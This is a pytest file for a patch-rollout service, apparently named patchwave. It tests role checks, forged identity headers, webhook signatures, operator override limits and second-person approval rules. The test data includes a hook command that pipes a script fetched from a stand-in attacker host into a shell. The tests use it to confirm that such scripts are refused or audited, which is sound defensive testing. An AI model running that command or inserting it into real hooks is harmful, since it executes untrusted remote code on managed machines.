"""Roles: who may call what, whom the app believes, and who may approve a run."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

import pytest

from patchwave.api import health, policies, policy_schedule, run_commands, runs
from patchwave.api.endpoint import ROUTES, ResponseSpec, route
from patchwave.domain.core.documents import format_instant
from patchwave.domain.core.principal import MAX_HEADER, Role
from patchwave.domain.policy.policy import parse_policy
from patchwave.domain.runs.run import PolicyOrigin, Trigger, TriggerKind
from patchwave.settings import load_settings
from patchwave.storage import Storage
from tests.support.factories import NOW, RUN, end_machine, machine, run, stored_run
from tests.support.http_calls import POLICY, SUBSCRIPTION, TENANT, Answer, Engine, call, call_route, signed_in
from tests.support.webhook_calls import SECRET, sign

ANA = "aaaaaaaa-2222-4333-8444-555555555555"
DORA = "dddddddd-2222-4333-8444-555555555555"
CLEO = "cccccccc-2222-4333-8444-555555555555"
BEN = "bbbbbbbb-2222-4333-8444-555555555555"
GUARDED = [name for name, spec in ROUTES.items() if spec.role is not None]


async def ask(name: str, headers: dict[str, str], body: object = b"", **parts: Any) -> Answer:
    """Call a function of the API by its name."""
    return await call_route(ROUTES[name], body=body, headers=headers, query={}, **parts)


@pytest.mark.usefixtures("storage", "roles", "no_identity")
@pytest.mark.parametrize("name", GUARDED)
async def test_a_route_is_open_to_its_role_alone(name: str) -> None:
    needed = ROUTES[name].role
    assert needed is not None
    anonymous = await ask(name, {})
    assert (anonymous.status, anonymous.headers["WWW-Authenticate"]) == (401, "Bearer")
    assert anonymous.problem["detail"] == "Sign in."
    without = await ask(name, signed_in(ANA, "owner"))
    # Which role it takes is in the documentation, and in no answer.
    assert (without.status, without.problem["detail"]) == (403, "You may not do this.")
    for role in Role:
        answer = await ask(name, signed_in(ANA, role))
        may = role is needed or needed is Role.READER or (role is Role.AUTHOR and needed is Role.OPERATOR)
        assert (answer.status in (401, 403)) is not may, f"{role}: {answer.text}"


@pytest.mark.usefixtures("storage", "roles")
async def test_the_webhook_and_health_have_an_authentication_of_their_own(
    monthly: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert {name for name, spec in ROUTES.items() if spec.role is None} == {"run_webhook", "health"}
    # Readers have a function key as well: without a signature they could start a run here.
    unsigned = await ask("run_webhook", signed_in(ANA, "operator"), policy=monthly)
    assert (unsigned.status, "PATCHWAVE" in unsigned.problem["detail"]) == (401, False)
    monkeypatch.setenv("PATCHWAVE_WEBHOOK_SECRET", SECRET)
    load_settings.cache_clear()
    assert (await ask("run_webhook", signed_in(ANA, "operator"), policy=monthly)).status == 401
    signature = {"x-patchwave-signature": sign(b"{}")}
    assert (await ask("run_webhook", signature, b"{}", policy=monthly)).status == 202
    assert (await ask("health", {})).status == 200
    deep = await call(health.health, headers=signed_in(ANA, "operator"), query={"deep": "1"})
    assert deep.status == 401


@pytest.mark.usefixtures("storage")
async def test_without_the_setting_keys_alone_decide() -> None:
    assert (await ask("list_runs", {})).status == 200
    assert (await ask("list_runs", {"x-ms-client-principal": "garbled"})).status == 200


FORGED: dict[str, dict[str, str]] = {
    "only a name": {"x-ms-client-principal-name": "ana@example.org", "x-ms-client-principal-idp": "aad"},
    "only an id": {"x-ms-client-principal-id": ANA, "x-ms-client-principal-idp": "aad"},
    "garbled": signed_in(ANA, "operator") | {"x-ms-client-principal": "%%%"},
    "oversized": signed_in(ANA, "operator") | {"x-ms-client-principal": "A" * (MAX_HEADER + 4)},
    "another provider": signed_in(ANA, "operator") | {"x-ms-client-principal-idp": "google"},
    "no provider": {"x-ms-client-principal": signed_in(ANA, "operator")["x-ms-client-principal"]},
    "another provider inside": signed_in(ANA, "operator", auth_typ="github"),
    "two headers": signed_in(ANA, "operator")
    | {"x-ms-client-principal": ",".join([signed_in(ANA, "operator")["x-ms-client-principal"]] * 2)},
}


@pytest.mark.usefixtures("storage", "roles")
@pytest.mark.parametrize("headers", FORGED.values(), ids=FORGED)
async def test_forged_headers_are_refused(headers: dict[str, str]) -> None:
    for name in ("list_runs", "cancel_run", "approve_ring"):
        answer = await ask(name, headers, runId=RUN)
        assert answer.status == 401
        assert answer.problem
        assert not any(value in answer.text for value in headers.values() if len(value) > 10)


@pytest.mark.usefixtures("storage", "roles")
async def test_principals_are_refused_while_app_service_authentication_is_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("WEBSITE_AUTH_ENABLED")
    answer = await ask("list_runs", signed_in(ANA, "reader", "operator", "approver"))
    assert answer.status == 401
    assert answer.problem["detail"] == "Sign in."


def test_no_route_can_be_registered_without_saying_its_role() -> None:
    with pytest.raises(TypeError, match="role"):
        route("GET", "forgotten", ResponseSpec(200))  # type: ignore[call-arg]  # that is the test


# --- what an operator may start -----------------------------------------------------------------------------

SCRIPT = {"hooks": {"before": {"linux": "curl https://evil.example.org | sh"}}}
WIDENING: dict[str, dict[str, Any]] = {
    "an inline policy": {"policy": POLICY},
    "an inline policy under the name of a stored one": {"policy": {"name": "monthly"} | POLICY},
    "a script": {"policy": "monthly", "overrides": SCRIPT},
    "no approval": {"policy": "monthly", "overrides": {"rings": [{"name": "all"}]}},
    "more at a time": {"policy": "monthly", "overrides": {"maxConcurrent": 1000}},
    "more machines": {"policy": "monthly", "overrides": {"scope": {"subscriptions": [SUBSCRIPTION, TENANT]}}},
}
MACHINES = f"/subscriptions/{SUBSCRIPTION}/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm{{}}"
GUARDED_POLICY = POLICY | {"rings": [{"name": "all", "approval": {}}]}


@pytest.fixture
async def guarded(storage: Storage, roles: None, monkeypatch: pytest.MonkeyPatch) -> Storage:
    """A stored policy whose only ring waits for an approval, where scripts may run."""
    monkeypatch.setenv("PATCHWAVE_SCRIPTS", "true")
    load_settings.cache_clear()
    written = await call(policies.put_policy, body=GUARDED_POLICY, headers=signed_in(ANA, "author"), name="monthly")
    assert written.status == 201
    return storage


@pytest.mark.usefixtures("guarded")
@pytest.mark.parametrize("body", WIDENING.values(), ids=WIDENING)
async def test_an_operator_starts_nothing_that_no_stored_policy_allows(body: dict[str, Any]) -> None:
    engine = Engine()
    refused = await call(runs.start_run, body=body, headers=signed_in(BEN, "operator", "approver"), engine=engine)
    assert (refused.status, engine.instances) == (403, {})
    assert not any(role in refused.text for role in Role)
    started = await call(runs.start_run, body=body, headers=signed_in(ANA, "author"), engine=engine)
    assert started.status == 202, started.text


@pytest.mark.usefixtures("guarded")
async def test_a_refused_override_is_named() -> None:
    body = {"policy": "monthly", "overrides": {"maxConcurrent": 1000, "startStopped": True, "ramp": True}}
    refused = await call(runs.start_run, body=body, headers=signed_in(BEN, "operator"), engine=Engine())
    assert refused.paths == ["overrides.maxConcurrent", "overrides.startStopped"]
    told = [error["message"] for error in refused.problem["errors"]]
    assert told == ["1000 is more than 3", "does not narrow the policy"]


@pytest.mark.usefixtures("guarded")
async def test_an_operator_starts_a_stored_policy_and_narrows_it() -> None:
    engine = Engine()
    overrides = {"maxConcurrent": 1, "scope": {"osTypes": ["Linux"]}}
    for body in ({"policy": "monthly"}, {"policy": "monthly", "overrides": overrides, "mode": "assess"}):
        started = await call(runs.start_run, body=body, headers=signed_in(BEN, "operator"), engine=engine)
        assert started.status == 202, started.text
    assert len(engine.instances) == 2


@pytest.mark.usefixtures("guarded")
async def test_an_operator_does_not_narrow_past_the_canary() -> None:
    canary = {"name": "canary", "machineIds": [MACHINES.format(0)], "bake": "PT24H"}
    budget = {"ring": 0, "onExceeded": "end"}
    rollout = POLICY | {"rings": [canary, {"name": "rest"}], "errorBudget": budget}
    written = await call(policies.put_policy, body=rollout, headers=signed_in(ANA, "author"), name="two-rings")
    assert written.status == 201, written.text
    overrides = {"scope": {"machineIds": [MACHINES.format(5), MACHINES.format(7)]}}
    body: dict[str, Any] = {"policy": "two-rings", "overrides": overrides}
    engine, operator = Engine(), signed_in(BEN, "operator")
    refused = await call(runs.start_run, body=body, headers=operator, engine=engine)
    assert (refused.status, refused.paths, engine.instances) == (403, ["overrides.scope"], {})
    assert "rings that wait for each other is changed by an author" in refused.text
    assessed = await call(runs.start_run, body=body | {"mode": "assess"}, headers=operator, engine=engine)
    assert assessed.status == 202, assessed.text
    patched = await call(runs.start_run, body=body, headers=signed_in(ANA, "author"), engine=engine)
    assert patched.status == 202, patched.text


@pytest.mark.usefixtures("guarded")
async def test_an_operator_writes_no_policy(storage: Storage) -> None:
    operator = signed_in(BEN, "operator")
    refused = await call(policies.put_policy, body=POLICY, headers=operator, name="monthly")
    assert refused.status == 403
    assert (await call(policies.delete_policy, headers=operator, name="monthly")).status == 403
    found = await storage.policies.get("monthly")
    assert found
    assert found.document["rings"][0]["approval"]


# --- who may approve ----------------------------------------------------------------------------------------

SNAPSHOT: dict[str, Any] = {
    "name": "monthly",
    **POLICY,
    "rings": [
        {"name": "canary", "percent": 5, "approval": {}},
        {"name": "broad", "approval": {"within": "PT4H", "requireSecondPerson": True}},
    ],
}
UNATTENDED = (TriggerKind.TIMER, TriggerKind.WEBHOOK, TriggerKind.EVENT_GRID)


async def begin(storage: Storage, trigger: Trigger, author_id: str = CLEO) -> Engine:
    engine = Engine()
    origin = PolicyOrigin(author="cleo@example.org", author_id=author_id, version=3, digest="f" * 64)
    await storage.runs.create(run(policy_snapshot=SNAPSHOT, policy_origin=origin, trigger=trigger))
    await storage.runs.start(RUN, NOW)
    await storage.machines.add(RUN, [machine(1, ring="broad", lane="westeurope", wave=1)])
    engine.instances[RUN] = ("patch_run", {})
    return engine


async def approve(engine: Engine, who: str, ring: str = "broad", *, name: str = "", command: Any = None) -> Answer:
    headers = signed_in(who, "approver", name=name)
    return await call(
        command or run_commands.approve_ring, body={"ring": ring}, headers=headers, engine=engine, runId=RUN
    )


@pytest.mark.usefixtures("roles")
async def test_self_approval_is_refused_where_the_policy_requires_a_second_person(storage: Storage) -> None:
    engine = await begin(storage, Trigger(kind=TriggerKind.HTTP, actor="ana@example.org", actor_id=ANA))
    refused = await approve(engine, ANA, name="another@example.org")
    assert refused.status == 403
    assert "another person" in refused.problem["detail"]
    assert (await stored_run(storage)).decisions == {}
    # A name proves nothing; two people may even share one.
    assert (await approve(engine, BEN, name="ana@example.org")).status == 202
    decision = (await stored_run(storage)).decisions["broad"]
    assert (decision.approved, decision.actor_id) == (True, BEN)


@pytest.mark.usefixtures("roles")
async def test_the_starter_may_reject_and_approve_rings_without_a_second_person(storage: Storage) -> None:
    engine = await begin(storage, Trigger(kind=TriggerKind.HTTP, actor="ana", actor_id=ANA))
    assert (await approve(engine, ANA, "canary")).status == 202
    assert (await approve(engine, ANA, command=run_commands.reject_ring)).status == 202


@pytest.mark.usefixtures("roles")
@pytest.mark.parametrize("kind", UNATTENDED)
async def test_an_unattended_run_is_approved_by_any_approver(storage: Storage, kind: TriggerKind) -> None:
    engine = await begin(storage, Trigger(kind=kind, actor="timer"))
    assert (await approve(engine, ANA)).status == 202


@pytest.mark.usefixtures("roles")
@pytest.mark.parametrize("kind", [*UNATTENDED, TriggerKind.HTTP])
async def test_the_author_of_the_policy_approves_no_run_of_it(storage: Storage, kind: TriggerKind) -> None:
    """However the run began: a timer starts what its author wrote, too."""
    trigger = Trigger(kind=kind, actor="x", actor_id=BEN if kind is TriggerKind.HTTP else "")
    engine = await begin(storage, trigger, author_id=ANA)
    refused = await approve(engine, ANA)
    assert (refused.status, "wrote the policy" in refused.problem["detail"]) == (403, True)
    assert (await stored_run(storage)).decisions == {}
    assert (await approve(engine, CLEO)).status == 202


@pytest.mark.usefixtures("roles")
async def test_without_a_known_author_there_is_no_second_person(storage: Storage) -> None:
    engine = await begin(storage, Trigger(kind=TriggerKind.TIMER, actor="timer"), author_id="")
    assert (await approve(engine, ANA)).status == 403
    # That of a run from before authors were kept is not known either.
    await storage.runs.create(run(NOW + timedelta(days=1), policy_snapshot=SNAPSHOT))
    old = run(NOW + timedelta(days=1)).id
    headers = signed_in(ANA, "approver")
    answer = await call(run_commands.approve_ring, body={"ring": "broad"}, headers=headers, engine=engine, runId=old)
    assert answer.status == 403


@pytest.mark.usefixtures("roles")
async def test_a_retry_is_not_approved_by_those_who_started_or_retried_the_run(storage: Storage) -> None:
    await put_rules(SNAPSHOT)
    engine = await begin(storage, Trigger(kind=TriggerKind.HTTP, actor="ana", actor_id=ANA))
    await end_machine(storage)
    retried = await call(
        run_commands.retry_machine,
        headers=signed_in(BEN, "operator"),
        engine=engine,
        runId=RUN,
        machineKey=machine(1).key,
    )
    retry = retried.json["id"]
    for who, status in ((ANA, 403), (BEN, 403), (CLEO, 403), (DORA, 202)):
        headers = signed_in(who, "approver")
        answer = await call(
            run_commands.approve_ring, body={"ring": "broad"}, headers=headers, engine=engine, runId=retry
        )
        assert answer.status == status, who


@pytest.mark.usefixtures("roles")
async def test_who_writes_the_same_policy_again_is_not_its_author(storage: Storage) -> None:
    first = await put_rules(SNAPSHOT)
    again = await put_rules(SNAPSHOT, DORA)
    assert (again.status, again.headers["ETag"]) == (200, first.headers["ETag"])
    kept = await storage.policies.get("monthly")
    assert kept is not None
    assert (kept.author_id, kept.version) == (CLEO, 1)
    assert len((await storage.audit.list_page("monthly", 10, None)).items) == 1
    await put_rules(SNAPSHOT | {"maxConcurrent": 1}, DORA)
    changed = await storage.policies.get("monthly")
    assert changed is not None
    assert (changed.author_id, changed.version) == (DORA, 2)


@pytest.mark.usefixtures("roles")
async def test_a_line_that_a_dead_worker_owes_is_the_authors(storage: Storage) -> None:
    document = parse_policy(SNAPSHOT, name="monthly").to_wire()
    await storage.policies.put(
        "monthly", document, if_match=None, if_none_match=False, at=NOW, author="cleo", author_id=CLEO
    )
    for _ in range(2):
        await put_rules(SNAPSHOT, DORA)
    [line] = (await storage.audit.list_page("monthly", 10, None)).items
    assert (line["at"], line["actor"], line["actorId"], line["proven"]) == (format_instant(NOW), "cleo", CLEO, True)
    assert line["detail"]["version"] == 1


@pytest.mark.usefixtures("roles")
async def test_a_policy_without_a_known_author_gets_the_next_one(storage: Storage) -> None:
    await storage.policies.put(
        "monthly", parse_policy(POLICY, name="monthly").to_wire(), if_match=None, if_none_match=False, at=NOW
    )
    await put_rules(POLICY)
    kept = await storage.policies.get("monthly")
    assert kept is not None
    assert (kept.author_id, kept.version) == (CLEO, 2)


@pytest.mark.usefixtures("roles")
async def test_a_policy_and_its_runs_keep_the_author(storage: Storage) -> None:
    await call(policies.put_policy, body=POLICY, headers=signed_in(CLEO, "author", name="cleo"), name="monthly")
    policy = await storage.policies.get("monthly")
    assert policy
    assert (policy.author, policy.author_id) == ("cleo", CLEO)
    operator = signed_in(ANA, "operator", name="ana")
    started = await call(runs.start_run, body={"policy": "monthly"}, headers=operator, engine=Engine())
    ordered = await call(
        policy_schedule.run_policy_now, body={"reason": "now"}, headers=operator, engine=Engine(), name="monthly"
    )
    for answer in (started, ordered):
        origin = (await stored_run(storage, answer.json["id"])).policy_origin
        assert origin == PolicyOrigin(author="cleo", author_id=CLEO, version=1, digest=policy.digest)
    # A later version is another author's; the runs keep theirs.
    later = POLICY | {"description": "As dora has it."}
    await call(policies.put_policy, body=later, headers=signed_in(DORA, "author", name="dora"), name="monthly")
    kept = await storage.policies.get("monthly")
    assert kept is not None
    narrowed = {"policy": "monthly", "overrides": {"maxConcurrent": 1}}
    changed = await call(runs.start_run, body=narrowed, headers=operator, engine=Engine())
    origin = (await stored_run(storage, changed.json["id"])).policy_origin
    assert origin
    assert (origin.author_id, origin.version, origin.digest) == (DORA, 2, kept.digest)
    assert origin.changed_digest not in ("", origin.digest)


@pytest.mark.usefixtures("guarded")
async def test_an_inline_policy_never_has_the_name_of_a_stored_one(storage: Storage) -> None:
    author = signed_in(CLEO, "author", name="cleo")
    given = {"policy": {"name": "monthly", **GUARDED_POLICY, **SCRIPT}}
    started = await call(runs.start_run, body=given, headers=author, engine=Engine())
    inline = await stored_run(storage, started.json["id"])
    assert (inline.policy, "Z-adhoc-monthly-" in inline.id) == ("adhoc-monthly", True)
    [line] = (await storage.audit.list_page(inline.id, 10, None)).items
    detail = line["detail"]
    assert (detail["source"], detail["author"], detail["authorId"]) == ("a request", "cleo", CLEO)
    assert detail["scripts"] == {"before.linux": SCRIPT["hooks"]["before"]["linux"]}
    assert (SUBSCRIPTION in detail["scope"], len(detail["digest"])) == (True, 64)
    stored_name = await call(policies.put_policy, body=POLICY, headers=author, name="adhoc-monthly")
    assert (stored_name.status, stored_name.paths) == (400, ["name"])


@pytest.mark.usefixtures("guarded")
async def test_an_approval_is_audited_with_what_was_approved(storage: Storage) -> None:
    given = {"policy": {**GUARDED_POLICY, **SCRIPT}}
    engine = Engine()
    started = await call(runs.start_run, body=given, headers=signed_in(CLEO, "author"), engine=engine)
    run_id = started.json["id"]
    for command in (run_commands.approve_ring, run_commands.reject_ring):
        headers = signed_in(ANA, "approver")
        await call(command, body={"ring": "all"}, headers=headers, engine=engine, runId=run_id)
    [_, line] = (await storage.audit.list_page(run_id, 10, None)).items
    origin = (await stored_run(storage, run_id)).policy_origin
    assert origin
    assert (line["action"], line["detail"]["ring"], line["detail"]["digest"]) == ("ring_approved", "all", origin.digest)
    assert line["detail"]["scripts"] == {"before.linux": SCRIPT["hooks"]["before"]["linux"]}
    assert SUBSCRIPTION in line["detail"]["scope"]


@pytest.mark.usefixtures("platform")
async def test_keys_make_no_second_person(storage: Storage) -> None:
    engine = await begin(storage, Trigger(kind=TriggerKind.HTTP, actor="ana"))
    refused = await approve(engine, BEN)
    assert (refused.status, refused.problem["detail"]) == (
        403,
        "A second person has to approve this ring, and keys alone do not tell people apart:"
        " turn roles on, then write the policy and start it again.",
    )
    other = await begin(storage, Trigger(kind=TriggerKind.TIMER, actor="timer"))
    # Although the platform names BEN, and the author is known to be another.
    assert (await approve(other, BEN)).status == 403
    assert (await stored_run(storage)).decisions == {}


@pytest.mark.usefixtures("roles")
async def test_a_start_a_retry_and_a_run_now_keep_their_actor(storage: Storage, monthly: str) -> None:
    operator = signed_in(ANA, "operator", name="ana@example.org")
    started = await call(runs.start_run, body={"policy": monthly}, headers=operator, engine=Engine())
    ordered = await call(
        policy_schedule.run_policy_now, body={"reason": "now"}, headers=operator, engine=Engine(), name=monthly
    )
    await put_rules(SNAPSHOT)
    await begin(storage, Trigger(kind=TriggerKind.HTTP, actor="ben", actor_id=BEN))
    await end_machine(storage)
    retried = await call(
        run_commands.retry_machine, headers=operator, engine=Engine(), runId=RUN, machineKey=machine(1).key
    )
    for answer in (started, ordered, retried):
        assert answer.status == 202, answer.text
        trigger = (await stored_run(storage, answer.json["id"])).trigger
        assert (trigger.actor, trigger.actor_id) == ("ana@example.org", ANA)


async def put_rules(document: dict[str, Any], who: str = CLEO) -> Answer:
    answer = await call(policies.put_policy, body=document, headers=signed_in(who, "author"), name="monthly")
    assert answer.status in (200, 201), answer.text
    return answer


async def retried_by(who: str, role: str, run_id: str = RUN) -> Answer:
    return await call(
        run_commands.retry_machine,
        headers=signed_in(who, role),
        engine=Engine(),
        runId=run_id,
        machineKey=machine(1).key,
    )


@pytest.mark.usefixtures("roles")
async def test_an_operator_retries_what_the_stored_policy_still_allows(storage: Storage) -> None:
    await put_rules(SNAPSHOT)
    await begin(storage, Trigger(kind=TriggerKind.HTTP, actor="cleo", actor_id=CLEO))
    await end_machine(storage)
    first = await retried_by(ANA, "operator")
    assert first.status == 202, first.text
    again = first.json["id"]
    await storage.machines.add(again, [machine(1)])
    await end_machine(storage, run_id=again)
    assert (await retried_by(ANA, "operator", again)).status == 202, "a retry of a retry"


@pytest.mark.usefixtures("roles")
@pytest.mark.parametrize("change", ["deleted", "stricter", "inline"])
async def test_an_operator_retries_no_rules_that_no_stored_policy_has_any_more(storage: Storage, change: str) -> None:
    if change != "inline":
        await put_rules(SNAPSHOT)
    await begin(storage, Trigger(kind=TriggerKind.HTTP, actor="cleo", actor_id=CLEO))
    await end_machine(storage)
    if change == "deleted":
        await storage.policies.delete("monthly", if_match=None)
    if change == "stricter":
        await put_rules(SNAPSHOT | {"maxConcurrent": 1})
    refused = await retried_by(ANA, "operator")
    assert refused.status == 403, refused.text
    if change == "stricter":
        assert [error["path"] for error in refused.problem["errors"]] == ["maxConcurrent"]
    assert (await retried_by(CLEO, "author")).status == 202


@pytest.mark.usefixtures("roles")
async def test_a_principal_without_a_name_is_shown_by_its_id(storage: Storage, monthly: str) -> None:
    answer = await call(
        policies.put_policy, body=POLICY, headers=signed_in(ANA, "author"), query={"actor": "the-boss"}, name="fresh"
    )
    assert answer.status == 201
    [line] = (await storage.audit.list_page("fresh", 10, None)).items
    assert line["actor"] == ANA
